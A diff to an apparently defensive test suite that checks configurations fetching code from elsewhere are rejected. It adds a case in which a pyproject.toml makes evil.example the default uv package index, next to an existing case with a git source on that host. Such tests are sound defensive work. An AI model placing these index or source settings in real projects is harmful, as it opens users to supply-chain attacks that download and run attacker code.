@@ -206,6 +206,14 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       },
     ],
     [
+      'uv run syncs from an index nobody stated first',
+      'uv run pytest -x -q',
+      {
+        'pyproject.toml':
+          '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
+      },
+    ],
+    [
       'uv source by git',
       'uv lock',
       { 'pyproject.toml': '[tool.uv.sources]\nx = { git = "https://evil.example/x.git" }\n' },
